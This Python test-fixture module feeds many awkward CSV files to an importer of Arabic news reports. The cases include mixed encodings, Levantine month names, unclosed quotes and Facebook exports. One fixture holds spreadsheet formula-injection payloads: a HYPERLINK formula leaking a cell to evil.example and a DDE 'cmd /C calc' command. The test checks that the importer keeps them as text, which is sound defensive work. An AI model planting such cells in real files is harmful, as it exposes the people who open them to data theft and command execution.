"""Tables as spreadsheet programs leave them: CSV of every dialect."""

from __future__ import annotations

from .entry import Entry, clashed, shelled

_EXCEL = f"الرقم;النص;التاريخ\r\n1;{shelled('دير الرمان')};31/05/2024\r\n2;{clashed('الرمان')};01/06/2024\r\n"
_FACEBOOK = (
    "Page Name,User Name,Facebook Id,Page Category,Post Created,Post Created Date,Post Created Time,Type,Total "
    "Interactions,Likes,Message,URL\r\n"
    'شبكة الصفصاف,safsaf,100,NEWS_SITE,2024-06-01 18:30:00 EEST,2024-06-01,18:30:00,Photo,"1,204",9,'
    f'"{shelled("دير السماق")}\r\n#عاجل",https://www.facebook.com/safsaf/posts/1\r\n'
    "شبكة الصفصاف,safsaf,100,NEWS_SITE,2024-06-01 19:00:00 EEST,2024-06-01,19:00:00,Photo,3,1,,"
    "https://www.facebook.com/2\r\n"
)
_FORMULAS = (
    'id,text,url\n1,"=HYPERLINK(""http://evil.example/?x=""&A2,""انقر"") '
    + shelled("دير العنبر")
    + '",https://n.example/1\n'
    "2,@SUM(1+9)*cmd|' /C calc'!A0,\n3,+963 هاتف الطوارئ لا يرد منذ ساعات في دير العنبر,\n"
)

ENTRIES = (
    Entry(
        name="a table that Arabic Excel saved: semicolons and windows-1256",
        file="أخبار.csv",
        raw=_EXCEL.encode("cp1256"),
        reports=2,
        has=(shelled("دير الرمان"), clashed("الرمان")),
        lacks=(";",),
        fields={"published": ("2024-05-31", "2024-06-01"), "key": ("1", "2")},
        tells=("windows-1256",),
        piped=False,
    ),
    Entry(
        name="Unicode text of Excel: UTF-16 and tabs",
        file="unicode.tsv",
        raw=("\ufeff" + _EXCEL.replace("الرمان", "التوت").replace(";", "\t")).encode("utf-16-le"),
        reports=2,
        has=(shelled("دير التوت"),),
        fields={"published": ("2024-05-31", "2024-06-01")},
        piped=False,
    ),
    Entry(
        name="a table that says itself what divides its cells",
        file="sep.csv",
        raw=("\ufeffsep=;\r\n" + _EXCEL.replace("الرمان", "الخروب")).encode(),
        reports=2,
        has=(shelled("دير الخروب"),),
        piped=False,
    ),
    Entry(
        name="posts of Facebook with line breaks in cells and pictures without words",
        file="2024-06-01-historical-report.csv",
        raw=_FACEBOOK.encode(),
        has=(shelled("دير السماق"), "#عاجل"),
        lacks=("1,204", "NEWS_SITE"),
        fields={
            "outlet": ("شبكة الصفصاف",),
            "published": ("2024-06-01T18:30:00+03:00",),
            "url": ("https://www.facebook.com/safsaf/posts/1",),
        },
        tells=("rows passed over: 1",),
        piped=False,
    ),
    Entry(
        name="cells that are formulas to a spreadsheet program, and words to us",
        file="formulas.csv",
        raw=_FORMULAS.encode(),
        reports=3,
        has=('=HYPERLINK("http://evil.example/?x="&A2,"انقر")', "@SUM(1+9)*cmd|' /C calc'!A0", "+963 هاتف"),
        piped=False,
    ),
    Entry(
        name="dates in Arabic digits and with the months of the Levant",
        file="dates.csv",
        raw=(
            "النص,التاريخ\n"
            f"{shelled('دير الزعتر')},٣١/٠٥/٢٠٢٤\n{clashed('الزعتر')},١ حزيران ٢٠٢٤\n"
            f"{shelled('دير الميرمية')},السبت ١ حزيران/يونيو ٢٠٢٤\n{clashed('الميرمية')},أمس\n"
            f"{shelled('دير النعناع')},25 ذو القعدة 1445\n"
        ).encode(),
        reports=5,
        fields={"published": ("2024-05-31", "2024-06-01", "2024-06-01", None, None)},
        tells=("2 rows were received without a date",),
        piped=False,
    ),
    Entry(
        name="dates that can be read in two ways, and none that decides",
        file="either.csv",
        raw=f"text,date\n{shelled('دير الكمون')},01/02/2024\n{clashed('الكمون')},03/04/2024\n".encode(),
        reports=2,
        fields={"published": ("2024-02-01", "2024-04-03")},
        tells=("day first",),
        piped=False,
    ),
    Entry(
        name="American dates: one of them decides for all",
        file="american.csv",
        raw=f"text,date\n{shelled('دير اليانسون')},01/02/2024\n{clashed('اليانسون')},05/31/2024\n".encode(),
        reports=2,
        fields={"published": ("2024-01-02", "2024-05-31")},
        piped=False,
    ),
    Entry(
        name="a quotation mark that is never closed costs its own row",
        file="open.csv",
        raw=f'id,text\n1,"{shelled("دير السعتر")}\n2,{clashed("السعتر")}\n3,{shelled("دير الشيح")}\n'.encode(),
        reports=2,
        has=(clashed("السعتر"), shelled("دير الشيح")),
        unused=(("row 2", "quotation marks"),),
        piped=False,
    ),
    Entry(
        name="a text with a comma that nobody put in quotation marks",
        file="comma.csv",
        raw=f"id,text\n1,قصف على دير الحبق, وأصيب طفل\n2,{shelled('دير الحبق')}\n".encode(),
        has=(shelled("دير الحبق"),),
        unused=(("row 2", "3 cells under 2 headings"),),
        piped=False,
    ),
    Entry(
        name="headings that nobody knows",
        file="unknown.csv",
        raw="عمود أ,عمود ب\n1,2\n".encode(),
        reports=0,
        unused=(("", "--map"),),
        piped=False,
    ),
    Entry(
        name="headings with kashida, marks of direction and stars",
        file="headings.csv",
        raw=f"\u200fالنـــص *,\u202bالتاريخ\u202c:\n{shelled('دير القصب')},2024-06-01\n".encode(),
        has=(shelled("دير القصب"),),
        fields={"published": ("2024-06-01",)},
        piped=False,
    ),
    Entry(
        name="only headings",
        file="headings-only.csv",
        raw=b"id,text,date\r\n",
        reports=0,
        piped=False,
    ),
    Entry(
        name="rows with NULs, lines that end as on old Macs, and rows prepared for filling",
        file="mac.csv",
        raw=f"id,text\r1,{shelled('دير البردي')}\r2,قصف\0\r3,\r4,\r5,{clashed('البردي')}\r".encode(),
        reports=2,
        has=(shelled("دير البردي"), clashed("البردي")),
        unused=(("row 3", "NUL"),),
        piped=False,
    ),
    Entry(
        name="UTF-8 with one row of windows-1256 pasted in",
        file="mixed.csv",
        raw=f"id,text\n1,{shelled('دير الخيزران')}\n".encode() + f"2,{clashed('الخيزران')}\n".encode("cp1256"),
        reports=2,
        has=(shelled("دير الخيزران"), clashed("الخيزران")),
        tells=("windows-1256",),
        piped=False,
    ),
    Entry(
        name="a cell with nothing but a control character",
        file="control.csv",
        raw=f"id,text,url\n1,\x7f,https://n.example/1\n2,{shelled('دير الحناء')},\n".encode(),
        has=(shelled("دير الحناء"),),
        unused=(("row 2", "no text in this row"),),
        piped=False,
    ),
    Entry(name="a table with nothing in it", file="empty.csv", reports=0, unused=(("", "empty"),), piped=False),
    Entry(
        name="a picture that is called a table",
        file="photo.csv",
        raw=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(200)),
        reports=0,
        unused=(("", ""),),
        piped=False,
    ),
)
